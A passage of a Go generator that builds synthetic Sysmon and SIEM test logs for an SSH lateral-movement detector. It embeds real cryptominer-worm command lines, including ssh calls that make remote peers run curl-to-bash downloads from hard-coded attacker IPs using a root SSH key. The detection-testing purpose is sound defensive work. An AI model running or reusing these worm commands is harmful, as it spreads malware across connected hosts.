//go:build ignore

// Command gen writes the synthetic test data of sshlateral from the real
// worm command lines in testdata/worm_ssh_lines/ssh_spread_lines.tsv:
//
//	testdata/synthetic/positives.log               Sysmon for Linux EventID 1 lines behind syslog headers
//	testdata/synthetic/positives_cim.json          the same process events as CIM JSON lines
//	testdata/synthetic/positives_envelope.jsonl    positives.log inside shipper JSON envelopes
//	testdata/synthetic/positives_hec.jsonl         positives.log as Splunk HEC events (string or CIM object)
//	testdata/synthetic/positives_ecs.jsonl         the process starts as ECS, nested and dotted-flat
//	testdata/synthetic/positives_ocsf.jsonl        the process starts as OCSF Process Activity (Launch)
//	testdata/synthetic/positives_auditd.log        the process starts as raw auditd records (enriched format)
//	testdata/synthetic/positives.expected.json     expected FINAL rows, ESCU matcher, default windows
//	testdata/synthetic/positives.expected_robust.json  the same for the robust matcher
//	cmd/sshlateral/sample/events.log               a ~30 line demo sample
//
// Run from the module root: go run testdata/synthetic/gen/main.go
// The output is deterministic. Labels come from how each event is built (a
// worm line that meets the ESCU conditions as written, a spaced-option
// variant, a negative); the generator checks them with its own literal
// reading of the conditions and fails on any disagreement. It does not use
// the project's matcher.
package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/sshlateral/sshlateral/integration/escurow"
)

const (
	tsvPath    = "testdata/worm_ssh_lines/ssh_spread_lines.tsv"
	outDir     = "testdata/synthetic"
	samplePath = "cmd/sshlateral/sample/events.log"
)

// The ESCU schedule: 60-minute windows ending at :50.
var (
	window1 = time.Date(2026, 11, 2, 9, 50, 0, 0, time.UTC)
	window2 = window1.Add(time.Hour)
)

type host struct {
	name, user string
	net        int // third octet of the peers this host attacks
}

var hosts = []host{
	{"web-01", "www-data", 1},
	{"web-02", "deploy", 2},
	{"db-01", "root", 3},
}

// event is one synthetic process start (EventID 1) or another record.
type event struct {
	t                     time.Time
	host                  host
	user                  string
	pid, ppid             int
	image, cmd, cwd       string
	parentImage, parentCm string
	escu, robust          bool   // labels
	origin                string // where the command comes from
	kind                  string // "" process start, "banner", "netconn", "malformed"
}

// wormLine is one row of the TSV.
type wormLine struct {
	path, line string
	escuLabel  bool // match_case_insensitive_literal
	cmd        string
}

func main() {
	log.SetFlags(0)
	lines, err := readTSV(tsvPath)
	if err != nil {
		log.Fatal(err)
	}
	events, excluded := buildPositives(lines)
	if err := check(events); err != nil {
		log.Fatal(err)
	}
	sortEvents(events)
	if err := writeSysmon(filepath.Join(outDir, "positives.log"), events, 0); err != nil {
		log.Fatal(err)
	}
	if err := writeCIM(filepath.Join(outDir, "positives_cim.json"), events); err != nil {
		log.Fatal(err)
	}
	if err := writeShapes(events); err != nil {
		log.Fatal(err)
	}
	if err := writeExpected(filepath.Join(outDir, "positives.expected.json"), events, func(e *event) bool { return e.escu }); err != nil {
		log.Fatal(err)
	}
	if err := writeExpected(filepath.Join(outDir, "positives.expected_robust.json"), events, func(e *event) bool { return e.robust }); err != nil {
		log.Fatal(err)
	}
	sample := buildSample(lines)
	if err := check(sample); err != nil {
		log.Fatal(err)
	}
	sortEvents(sample)
	if err := os.MkdirAll(filepath.Dir(samplePath), 0o755); err != nil {
		log.Fatal(err)
	}
	if err := writeSysmon(samplePath, sample, 1); err != nil {
		log.Fatal(err)
	}
	for _, x := range excluded {
		log.Printf("excluded %s", x)
	}
	log.Printf("wrote %d records (%d ESCU, %d robust positives) and a %d line sample",
		len(events), count(events, func(e *event) bool { return e.escu }),
		count(events, func(e *event) bool { return e.robust }), len(sample))
}

func count(es []event, f func(*event) bool) int {
	n := 0
	for i := range es {
		if f(&es[i]) {
			n++
		}
	}
	return n
}

func readTSV(path string) ([]wormLine, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	r := csv.NewReader(f)
	r.Comma = '\t'
	rows, err := r.ReadAll()
	if err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	var out []wormLine
	for _, row := range rows[1:] {
		if len(row) != 6 {
			return nil, fmt.Errorf("%s: row with %d columns", path, len(row))
		}
		out = append(out, wormLine{path: row[0], line: row[1], escuLabel: row[3] == "1", cmd: row[5]})
	}
	return out, nil
}

// shellVars are the values chosen for the scripts' variables. $h, $i and
// $host are set per event.
func shellVars(peer string) map[string]string {
	return map[string]string{
		"h": peer, "i": peer, "host": peer,
		"key":  "/root/.ssh/id_rsa",
		"user": "root",
		"sshp": "22",
		// Xanthe's ${sh} is a base64 script run on the peer; a short one.
		"sh": "dW5hbWUgLWE=",
	}
}

var errCommandSubstitution = errors.New("command substitution $( ) would run on the local host")

// shellArgv splits the first simple command of script into argv as a POSIX
// shell would: single quotes, double quotes (with \" \\ \$ \` escapes),
// backslashes, $name and ${name} expansion. It stops at the first unquoted
// control operator (& ; | newline) or comment, which drops the "& done" that
// follows the ssh command in a loop.
func shellArgv(script string, vars map[string]string) ([]string, error) {
	var argv []string
	var word strings.Builder
	inWord := false
	expand := func(s string, i int) (string, int, error) {
		// s[i] == '$'
		if i+1 < len(s) && s[i+1] == '(' {
			return "", 0, errCommandSubstitution
		}
		j := i + 1
		braced := j < len(s) && s[j] == '{'
		if braced {
			j++
		}
		k := j
		for k < len(s) && (s[k] == '_' || s[k] >= 'a' && s[k] <= 'z' || s[k] >= 'A' && s[k] <= 'Z' || s[k] >= '0' && s[k] <= '9') {
			k++
		}
		name := s[j:k]
		if braced {
			if k >= len(s) || s[k] != '}' {
				return "", 0, fmt.Errorf("bad ${ at %d", i)
			}
			k++
		}
		if name == "" {
			return "$", i + 1, nil
		}
		v, ok := vars[name]
		if !ok {
			return "", 0, fmt.Errorf("unset variable $%s (payload in a variable)", name)
		}
		return v, k, nil
	}
	for i := 0; i < len(script); {
		c := script[i]
		switch {
		case c == ' ' || c == '\t':
			if inWord {
				argv = append(argv, word.String())
				word.Reset()
				inWord = false
			}
			i++
		case c == '&' || c == ';' || c == '|' || c == '\n' || c == '(' || c == ')' || c == '<' || c == '>':
			if inWord {
				argv = append(argv, word.String())
			}
			return argv, nil
		case c == '#' && !inWord:
			return argv, nil
		case c == '\'':
			j := strings.IndexByte(script[i+1:], '\'')
			if j < 0 {
				return nil, errors.New("unterminated '")
			}
			word.WriteString(script[i+1 : i+1+j])
			inWord = true
			i += j + 2
		case c == '"':
			inWord = true
			i++
			for {
				if i >= len(script) {
					return nil, errors.New(`unterminated "`)
				}
				d := script[i]
				if d == '"' {
					i++
					break
				}
				if d == '\\' && i+1 < len(script) && strings.IndexByte("\"\\$`", script[i+1]) >= 0 {
					word.WriteByte(script[i+1])
					i += 2
					continue
				}
				if d == '$' {
					v, next, err := expand(script, i)
					if err != nil {
						return nil, err
					}
					word.WriteString(v)
					i = next
					continue
				}
				if d == '`' {
					return nil, errCommandSubstitution
				}
				word.WriteByte(d)
				i++
			}
		case c == '\\':
			if i+1 < len(script) {
				word.WriteByte(script[i+1])
			}
			inWord = true
			i += 2
		case c == '$':
			v, next, err := expand(script, i)
			if err != nil {
				return nil, err
			}
			word.WriteString(v)
			inWord = true
			i = next
		case c == '`':
			return nil, errCommandSubstitution
		default:
			word.WriteByte(c)
			inWord = true
			i++
		}
	}
	if inWord {
		argv = append(argv, word.String())
	}
	return argv, nil
}

// escuMeets is the generator's own literal reading of the ESCU conditions
// on the command line (process_name=ssh is checked separately).
func escuMeets(cmd string) bool {
	l := strings.ToLower(cmd)
	opt := strings.Contains(l, "ostricthostkeychecking") || strings.Contains(l, "oconnecttimeout") || strings.Contains(l, "obatchmode")
	url := strings.Contains(l, "http:") || strings.Contains(l, "https:")
	return opt && url
}

// spacedOption reports an argv "-o" followed by one of the three option
// keywords: what a shell-aware reading also accepts.
func spacedOption(argv []string) bool {
	for i := 0; i+1 < len(argv); i++ {
		if argv[i] != "-o" {
			continue
		}
		k := strings.ToLower(argv[i+1])
		for _, key := range []string{"stricthostkeychecking", "connecttimeout", "batchmode"} {
			if strings.HasPrefix(k, key) {
				return true
			}
		}
	}
	return false
}

const sshImage = "/usr/bin/ssh"

// script names the worm script a line comes from, as its parent runs it.
func script(path string) string {
	base := filepath.Base(path)
	return "/var/tmp/.x/" + base
}

type pidGen struct{ next int }

func (p *pidGen) get() int { p.next += 7; return p.next }

// buildPositives turns the worm lines into the positives file's events.
func buildPositives(lines []wormLine) ([]event, []string) {
	var events []event
	var excluded []string
	pids := &pidGen{next: 41000}
	parents := map[string]int{} // host+script -> parent pid
	parentPid := func(h host, scr string) int {
		k := h.name + scr
		if p, ok := parents[k]; ok {
			return p
		}
		p := pids.get()
		parents[k] = p
		return p
	}
	mk := func(h host, t time.Time, argv []string, scr, origin string, escu, robust bool) event {
		return event{
			t: t, host: h, user: h.user, pid: pids.get(), ppid: parentPid(h, scr),
			image: sshImage, cmd: strings.Join(argv, " "), cwd: "/var/tmp/.x",
			parentImage: "/usr/bin/bash", parentCm: "/bin/bash " + scr,
			escu: escu, robust: robust, origin: origin,
		}
	}

	k := 0 // positives so far
	for _, wl := range lines {
		origin := wl.path + ":" + wl.line
		h := hosts[k%len(hosts)]
		peer := fmt.Sprintf("10.0.%d.%d", h.net, 20+k)
		argv, err := shellArgv(wl.cmd, shellVars(peer))
		if err != nil {
			excluded = append(excluded, origin+": "+err.Error())
			continue
		}
		if argv[0] != "ssh" {
			log.Fatalf("%s: argv[0] %q", origin, argv[0])
		}
		if !wl.escuLabel {
			continue // the negatives are placed below
		}
		// eleven positives in the first window, the rest in the second.
		base := window1
		if k >= 11 {
			base = window2
		}
		t := base.Add(12*time.Minute + time.Duration(k%11)*3*time.Minute + time.Duration(k*7)*time.Second + time.Duration(k*37)*time.Millisecond)
		e := mk(h, t, argv, script(wl.path), origin, true, true)
		events = append(events, e)
		switch k {
		case 0, 5, 13:
			// the same process logged again: the group count rises
			for _, d := range []time.Duration{31 * time.Second, 95*time.Second + 250*time.Millisecond} {
				dup := e
				dup.t = e.t.Add(d)
				dup.origin = origin + " (repeated)"
				events = append(events, dup)
			}
		case 3:
			// the same pid and command an hour later: a new row in the next window
			again := e
			again.t = e.t.Add(time.Hour)
			again.origin = origin + " (pid reused in the next window)"
			events = append(events, again)
		}
		k++
	}

	// The negatives among the worm lines: ftp://, a URL without scheme, a
	// misspelt option without URL.
	n := 0
	for _, wl := range lines {
		if wl.escuLabel {
			continue
		}
		origin := wl.path + ":" + wl.line
		h := hosts[n%len(hosts)]
		argv, err := shellArgv(wl.cmd, shellVars(fmt.Sprintf("10.0.%d.%d", h.net, 120+n)))
		if err != nil {
			continue // reported above
		}
		t := window1.Add(20*time.Minute + time.Duration(n)*9*time.Minute + 13*time.Second)
		events = append(events, mk(h, t, argv, script(wl.path), origin+" (negative)", false, false))
		n++
	}

	// Variants of xanthe line 568.
	h := hosts[1]
	spaced, err := shellArgv(`ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=3 -i $key $user@$host -p $sshp "curl -A hostcheck/1.5 -L http://34.92.166.158:8080/files/xanthe | bash -s;"`, shellVars("10.0.2.201"))
	if err != nil {
		log.Fatal(err)
	}
	events = append(events, mk(h, window2.Add(25*time.Minute+4*time.Second+500*time.Millisecond), spaced, script("xanthe"),
		"script_db/loggerminer/2020-12/xanthe:569 with -o options spaced (variant: ESCU misses it, a shell-aware reading catches it)", false, true))
	lower, err := shellArgv(`ssh -obatchmode=yes -oconnecttimeout=5 -ostricthostkeychecking=no $h "curl -fsSL http://189.7.105.47:8181/examples/jsp/z0.txt | sh";done`, shellVars("10.0.3.202"))
	if err != nil {
		log.Fatal(err)
	}
	events = append(events, mk(hosts[2], window1.Add(47*time.Minute+2*time.Second+999*time.Millisecond), lower, script("z0.txt"),
		"script_db/z0miner/2020-11/z0.txt:93 with options in lower case (variant: ESCU compares case-insensitively)", true, true))

	events = append(events, negatives(pids)...)
	return events, excluded
}

// negatives are ordinary process starts and near misses, spread over both
// windows, plus a heartbeat after the second window's grace so that both
// windows close, and two records that are not process starts.
func negatives(pids *pidGen) []event {
	type neg struct {
		at          time.Duration // after window1
		hostIdx     int
		user, image string
		cmd, origin string
		pimage, pcm string
		kind        string
	}
	list := []neg{
		{3 * time.Minute, 0, "www-data", "/usr/sbin/nginx", "nginx: worker process", "normal process", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", ""},
		{9 * time.Minute, 2, "root", "/usr/bin/ls", "ls -la /var/log", "normal process", "/usr/bin/bash", "-bash", ""},
		{14 * time.Minute, 1, "deploy", "/usr/bin/ssh", "ssh -oBatchMode=yes -oConnectTimeout=5 backup@10.0.9.5 uptime", "ssh with the options but no URL", "/usr/bin/bash", "/bin/bash /opt/backup/check.sh", ""},
		{18 * time.Minute, 0, "www-data", "/usr/bin/curl", "curl -fsSL -o /tmp/update.sh https://downloads.example.com/update.sh?opts=-oStrictHostKeyChecking=no", "curl with the options and a URL (process_name is not ssh)", "/usr/bin/bash", "/bin/bash /var/tmp/.x/ks", ""},
		{23 * time.Minute, 2, "root", "/usr/bin/bash", "bash -c ssh -oBatchMode=yes 10.0.3.40 'curl http://203.0.113.9/a.sh|sh'", "a shell wrapping ssh (process_name is bash)", "/usr/sbin/cron", "/usr/sbin/CRON -f", ""},
		{29 * time.Minute, 1, "deploy", "/usr/bin/ssh", "ssh deploy@10.0.9.6 curl -fsSL https://repo.example.com/install.sh | sh", "ssh with a URL but without the options", "/usr/bin/bash", "/bin/bash ./deploy.sh", ""},
		{36 * time.Minute, 0, "root", "/usr/bin/systemctl", "systemctl status nginx", "normal process", "/usr/bin/bash", "-bash", ""},
		{41 * time.Minute, 2, "root", "/usr/bin/ssh", "ssh -o BatchMode=yes 10.0.9.7 true", "ssh with a spaced option, no URL", "/usr/bin/bash", "/bin/bash /root/ping-peers.sh", ""},
		{52 * time.Minute, 1, "deploy", "/usr/bin/python3", "python3 /opt/app/worker.py --queue https://mq.example.com/jobs", "normal process with a URL", "/usr/lib/systemd/systemd", "/sbin/init", ""},
		{63 * time.Minute, 0, "www-data", "/usr/bin/sshd", "sshd: www-data [priv]", "sshd, not ssh", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", ""},
		{71 * time.Minute, 2, "root", "/usr/bin/scp", "scp -oBatchMode=yes -oConnectTimeout=5 http://203.0.113.9/x 10.0.9.8:/tmp/", "scp, not ssh", "/usr/bin/bash", "-bash", ""},
		{84 * time.Minute, 1, "deploy", "/usr/bin/git", "git fetch https://git.example.com/app.git", "normal process", "/usr/bin/bash", "-bash", ""},
		{96 * time.Minute, 0, "www-data", "/usr/bin/ssh", "ssh -oBatchMode=yes", "ssh netconn", "/usr/bin/bash", "-bash", "netconn"},
		{101 * time.Minute, 2, "root", "", "", "sysmon banner", "", "", "banner"},
		{108 * time.Minute, 1, "deploy", "/usr/bin/sleep", "sleep 60", "normal process", "/usr/bin/bash", "/bin/bash ./deploy.sh", ""},
		// heartbeat: past 11:50 + 10m grace, so that both windows close.
		{131 * time.Minute, 0, "root", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "normal process (closes the second window)", "/usr/bin/bash", "/bin/sh -c /etc/cron.daily/logrotate", ""},
		{132 * time.Minute, 1, "root", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "normal process (closes the second window)", "/usr/bin/bash", "/bin/sh -c /etc/cron.daily/logrotate", ""},
		{133 * time.Minute, 2, "root", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "normal process (closes the second window)", "/usr/bin/bash", "/bin/sh -c /etc/cron.daily/logrotate", ""},
	}
	var out []event
	for i, n := range list {
		out = append(out, event{
			t:    window1.Add(n.at + time.Duration(i*3)*time.Second + time.Duration(i*111)*time.Millisecond),
			host: hosts[n.hostIdx], user: n.user, pid: pids.get(), ppid: pids.get(),
			image: n.image, cmd: n.cmd, cwd: "/", parentImage: n.pimage, parentCm: n.pcm,
			origin: "synthetic negative: " + n.origin, kind: n.kind,
		})
	}
	return out
}

// buildSample is the demo sample: a few positives on three hosts, negatives,
// a banner, a non-process event and one malformed record for the
// dead-letter path.
func buildSample(lines []wormLine) []event {
	pids := &pidGen{next: 7000}
	var out []event
	// worm line -> host index; the last two are negatives.
	use := map[string]int{
		"script_db/ksminer/2020-12/ks:5":                 0,
		"script_db/loggerminer/2020-12/xanthe:568":       1,
		"script_db/watchbogminer/2020-07/666.sh:781":     2,
		"script_db/z0miner/2020-11/z0.txt:93":            0,
		"script_db/lsdminer/2019-02/WatchdosMiner.sh:75": 1,
		"script_db/sysupdataminer/2020-12/init.sh:998":   2,
		"script_db/startminer/2020-02/2start_jpg:24":     2,
		"script_db/lsdminer/2019-06/tmp.sh:53":           1,
		"script_db/loggerminer/2020-12/xanthe:426":       0,
	}
	i := 0
	for _, wl := range lines {
		origin := wl.path + ":" + wl.line
		hi, ok := use[origin]
		if !ok {
			continue
		}
		h := hosts[hi]
		argv, err := shellArgv(wl.cmd, shellVars(fmt.Sprintf("10.0.%d.%d", h.net, 60+i)))
		if err != nil {
			log.Fatalf("sample: %s: %v", origin, err)
		}
		t := window1.Add(15*time.Minute + time.Duration(i)*6*time.Minute + time.Duration(i*5)*time.Second)
		e := event{t: t, host: h, user: h.user, pid: pids.get(), ppid: pids.get(), image: sshImage,
			cmd: strings.Join(argv, " "), cwd: "/var/tmp/.x", parentImage: "/usr/bin/bash",
			parentCm: "/bin/bash " + script(wl.path), escu: wl.escuLabel, robust: wl.escuLabel, origin: origin}
		out = append(out, e)
		if i == 0 {
			dup := e
			dup.t = e.t.Add(40 * time.Second)
			out = append(out, dup)
		}
		i++
	}
	neg := negatives(pids)
	out = append(out, neg...)
	// One record cut short, as by a syslog line-length limit.
	out = append(out, event{t: window1.Add(33 * time.Minute), host: hosts[1], user: "deploy", pid: pids.get(), ppid: pids.get(),
		image: "/usr/bin/id", cmd: "id -u", cwd: "/", parentImage: "/usr/bin/bash", parentCm: "-bash",
		origin: "synthetic malformed record", kind: "malformed"})
	return out
}

// check verifies every label with the generator's own reading of the
// conditions.
func check(events []event) error {
	for _, e := range events {
		if e.kind != "" {
			if e.escu || e.robust {
				return fmt.Errorf("%s: non-process record labelled positive", e.origin)
			}
			continue
		}
		isSSH := filepath.Base(e.image) == "ssh"
		escu := isSSH && escuMeets(e.cmd)
		if escu != e.escu {
			return fmt.Errorf("%s: ESCU label %v, conditions say %v: %s", e.origin, e.escu, escu, e.cmd)
		}
		argv := strings.Fields(e.cmd)
		url := strings.Contains(strings.ToLower(e.cmd), "http:") || strings.Contains(strings.ToLower(e.cmd), "https:")
		robust := escu || isSSH && url && spacedOption(argv)
		if robust != e.robust {
			return fmt.Errorf("%s: robust label %v, conditions say %v: %s", e.origin, e.robust, robust, e.cmd)
		}
	}
	return nil
}

func sortEvents(es []event) {
	sort.SliceStable(es, func(i, j int) bool { return es[i].t.Before(es[j].t) })
}

// xmlText escapes text as Sysmon's libxml2 writer does for element content.
func xmlText(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;")
	return r.Replace(s)
}

func guid(parts ...string) string {
	sum := sha256.Sum256([]byte(strings.Join(parts, "|")))
	h := hex.EncodeToString(sum[:16])
	return "{" + h[0:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:32] + "}"
}

func hashOf(image string) string {
	sum := sha256.Sum256([]byte("synthetic " + image))
	return hex.EncodeToString(sum[:])
}

// header renders the syslog header: RFC 3339 for most lines, RFC 3164 for
// every fourth.
func header(i int, t time.Time, h string) string {
	if i%4 == 3 {
		return fmt.Sprintf("%s %2d %s %s sysmon: ", t.Format("Jan"), t.Day(), t.Format("15:04:05"), h)
	}
	return t.Format("2006-01-02T15:04:05.000000-07:00") + " " + h + " sysmon: "
}

func sysmonLine(i, recordID int, e event) string {
	created := e.t.Add(150*time.Millisecond + time.Duration(recordID%7)*time.Millisecond)
	switch e.kind {
	case "banner":
		return header(i, created, e.host.name) + "Sysmon v1.3.5 - Monitors system events"
	case "netconn":
		return header(i, created, e.host.name) + fmt.Sprintf(`<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>3</EventID><Version>5</Version><Level>4</Level><Task>3</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="%s"/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>%s</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">%s</Data><Data Name="ProcessGuid">%s</Data><Data Name="ProcessId">%d</Data><Data Name="Image">%s</Data><Data Name="User">%s</Data><Data Name="Protocol">tcp</Data><Data Name="Initiated">true</Data><Data Name="SourceIsIpv6">false</Data><Data Name="SourceIp">10.0.%d.10</Data><Data Name="SourceHostname">-</Data><Data Name="SourcePort">51514</Data><Data Name="SourcePortName">-</Data><Data Name="DestinationIsIpv6">false</Data><Data Name="DestinationIp">10.0.9.5</Data><Data Name="DestinationHostname">-</Data><Data Name="DestinationPort">22</Data><Data Name="DestinationPortName">ssh</Data></EventData></Event>`,
			created.Format("2006-01-02T15:04:05.000000000Z"), recordID, e.host.name, e.t.Format("2006-01-02 15:04:05.000"),
			guid(e.host.name, strconv.Itoa(e.pid)), e.pid, xmlText(e.image), xmlText(e.user), e.host.net)
	}
	x := fmt.Sprintf(`<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="%s"/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>%s</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">%s</Data><Data Name="ProcessGuid">%s</Data><Data Name="ProcessId">%d</Data><Data Name="Image">%s</Data><Data Name="FileVersion">-</Data><Data Name="Description">-</Data><Data Name="Product">-</Data><Data Name="Company">-</Data><Data Name="OriginalFileName">-</Data><Data Name="CommandLine">%s</Data><Data Name="CurrentDirectory">%s</Data><Data Name="User">%s</Data><Data Name="LogonGuid">%s</Data><Data Name="LogonId">%d</Data><Data Name="TerminalSessionId">%d</Data><Data Name="IntegrityLevel">no level</Data><Data Name="Hashes">SHA256=%s</Data><Data Name="ParentProcessGuid">%s</Data><Data Name="ParentProcessId">%d</Data><Data Name="ParentImage">%s</Data><Data Name="ParentCommandLine">%s</Data><Data Name="ParentUser">%s</Data></EventData></Event>`,
		created.Format("2006-01-02T15:04:05.000000000Z"), recordID, e.host.name, e.t.Format("2006-01-02 15:04:05.000"),
		guid(e.host.name, strconv.Itoa(e.pid), e.t.String()), e.pid, xmlText(e.image), xmlText(e.cmd), xmlText(e.cwd), xmlText(e.user),
		guid(e.host.name, e.user), uid(e.user), 1+recordID%3, hashOf(e.image), guid(e.host.name, strconv.Itoa(e.ppid)), e.ppid,
		xmlText(e.parentImage), xmlText(e.parentCm), xmlText(e.user))
	if e.kind == "malformed" {
		x = x[:len(x)-len(`</Data></EventData></Event>`)-20]
	}
	return header(i, created, e.host.name) + x
}

func uid(user string) int {
	switch user {
	case "root":
		return 0
	case "www-data":
		return 33
	}
	return 1000
}

func writeSysmon(path string, events []event, recordBase int) error {
	var b bytes.Buffer
	for i, e := range events {
		b.WriteString(sysmonLine(i, 154000+recordBase*1000+i, e))
		b.WriteByte('\n')
	}
	return os.WriteFile(path, b.Bytes(), 0o644)
}

func basename(p string) string {
	if i := strings.LastIndexByte(p, '/'); i >= 0 {
		return p[i+1:]
	}
	return p
}

// writeCIM writes the process starts as CIM JSON: keys with and without the
// Processes. prefix, _time as RFC 3339, epoch number or epoch string, ids as
// numbers or strings, strings HTML-escaped (\u0026) or not.
func writeCIM(path string, events []event) error {
	var b bytes.Buffer
	n := 0
	for _, e := range events {
		if e.kind != "" {
			continue
		}
		prefix := ""
		if n%2 == 1 {
			prefix = "Processes."
		}
		str := func(s string) string {
			var sb bytes.Buffer
			enc := json.NewEncoder(&sb)
			enc.SetEscapeHTML(n%3 != 2)
			if err := enc.Encode(s); err != nil {
				log.Fatal(err)
			}
			return strings.TrimSuffix(sb.String(), "\n")
		}
		id := func(v int) string {
			if n%2 == 0 {
				return strconv.Itoa(v)
			}
			return strconv.Quote(strconv.Itoa(v))
		}
		var tm string
		epoch := strconv.FormatInt(e.t.Unix(), 10) + "." + fmt.Sprintf("%03d", e.t.Nanosecond()/1e6)
		switch n % 3 {
		case 0:
			tm = strconv.Quote(e.t.Format("2006-01-02T15:04:05.000Z07:00"))
		case 1:
			tm = epoch
		case 2:
			tm = strconv.Quote(epoch)
		}
		fields := []struct{ k, v string }{
			{"_time", tm},
			{prefix + "dest", str(e.host.name)},
			{prefix + "user", str(e.user)},
			{prefix + "process", str(e.cmd)},
			{prefix + "process_name", str(basename(e.image))},
			{prefix + "process_path", str(e.image)},
			{prefix + "process_id", id(e.pid)},
			{prefix + "parent_process", str(e.parentCm)},
			{prefix + "parent_process_name", str(basename(e.parentImage))},
			{prefix + "parent_process_path", str(e.parentImage)},
			{prefix + "parent_process_id", id(e.ppid)},
			{prefix + "original_file_name", str("-")},
		}
		b.WriteByte('{')
		for i, f := range fields {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteString(strconv.Quote(f.k) + ":" + f.v)
		}
		b.WriteString("}\n")
		n++
	}
	return os.WriteFile(path, b.Bytes(), 0o644)
}

// writeShapes writes the same records in the JSON shapes of real pipelines
// (see PROVENANCE.md): envelopes and HEC around the Sysmon lines of
// positives.log, ECS and OCSF for its process starts.
func writeShapes(events []event) error {
	var env, hec, ecs, ocsf bytes.Buffer
	n := 0
	for i, e := range events {
		line := sysmonLine(i, 154000+i, e)
		xml := ""
		if i := strings.Index(line, "<Event"); i >= 0 {
			xml = line[i:]
		}
		epoch := strconv.FormatInt(e.t.Unix(), 10) + "." + fmt.Sprintf("%03d", e.t.Nanosecond()/1e6)
		stamp := e.t.Format("2006-01-02T15:04:05.000Z07:00")
		switch i % 4 {
		case 0: // Splunk export
			writeJSON(&env, map[string]any{"_time": epoch, "_raw": line, "host": e.host.name, "sourcetype": "sysmon:linux", "source": "/var/log/syslog"}, false)
		case 1: // rsyslog JSON template: the message after the tag, with its leading space
			msg := " " + xml
			if xml == "" {
				msg = line[strings.Index(line, "sysmon: ")+len("sysmon:"):]
			}
			writeJSON(&env, map[string]any{"@timestamp": stamp, "host": e.host.name, "severity": "info", "facility": "user", "syslog-tag": "sysmon:", "programname": "sysmon", "message": msg}, false)
		case 2: // Fluent Bit tail
			writeJSON(&env, map[string]any{"date": float64(e.t.UnixMilli()) / 1000, "log": line}, false)
		case 3: // Vector file source, written by Go's encoding/json (\u003c)
			writeJSON(&env, map[string]any{"message": line, "host": "collector-1", "timestamp": stamp, "source_type": "file", "file": "/var/log/syslog"}, true)
		}
		if e.kind != "" || i%2 == 0 {
			writeJSON(&hec, map[string]any{"time": json.Number(epoch), "host": e.host.name, "sourcetype": "sysmon:linux", "event": line}, false)
		} else {
			// the object event lacks _time and dest: HEC's time and host stand in
			writeJSON(&hec, map[string]any{"time": json.Number(epoch), "host": e.host.name, "sourcetype": "stash", "event": map[string]any{
				"user": e.user, "process": e.cmd, "process_name": basename(e.image), "process_path": e.image, "process_id": e.pid,
				"parent_process": e.parentCm, "parent_process_name": basename(e.parentImage), "parent_process_path": e.parentImage,
				"parent_process_id": e.ppid, "original_file_name": "-",
			}}, false)
		}
		if e.kind != "" {
			continue
		}
		doc := map[string]any{
			"@timestamp": stamp,
			"ecs":        map[string]any{"version": "8.11.0"},
			"event":      map[string]any{"category": []string{"process"}, "type": []string{"start"}, "action": "Process creation", "code": "1", "kind": "event"},
			"host":       map[string]any{"name": e.host.name, "os": map[string]any{"type": "linux"}},
			"user":       map[string]any{"name": e.user},
			"process": map[string]any{
				"pid": e.pid, "name": basename(e.image), "executable": e.image, "command_line": e.cmd, "working_directory": e.cwd,
				"pe":     map[string]any{"original_file_name": "-"},
				"parent": map[string]any{"pid": e.ppid, "name": basename(e.parentImage), "executable": e.parentImage, "command_line": e.parentCm},
			},
		}
		if n%2 == 1 {
			doc = flatten("", doc, map[string]any{})
		}
		writeJSON(&ecs, doc, n%3 == 0)
		parent := map[string]any{"pid": e.ppid, "name": basename(e.parentImage), "cmd_line": e.parentCm, "file": map[string]any{"path": e.parentImage, "name": basename(e.parentImage)}}
		proc := map[string]any{"pid": e.pid, "name": basename(e.image), "cmd_line": e.cmd, "file": map[string]any{"path": e.image, "name": basename(e.image)}}
		o := map[string]any{
			"class_uid": 1007, "class_name": "Process Activity", "category_uid": 1, "activity_id": 1, "activity_name": "Launch", "type_uid": 100701,
			"time": e.t.UnixMilli(), "severity_id": 1, "metadata": map[string]any{"version": "1.1.0", "product": map[string]any{"name": "synthetic"}},
			"device":  map[string]any{"hostname": e.host.name, "os": map[string]any{"type": "Linux", "type_id": 200}},
			"actor":   map[string]any{"user": map[string]any{"name": e.user}},
			"process": proc,
		}
		if n%2 == 0 {
			proc["parent_process"] = parent
		} else {
			o["actor"].(map[string]any)["process"] = parent
		}
		writeJSON(&ocsf, o, false)
		n++
	}
	if err := os.WriteFile(filepath.Join(outDir, "positives_auditd.log"), auditdLog(events), 0o644); err != nil {
		return err
	}
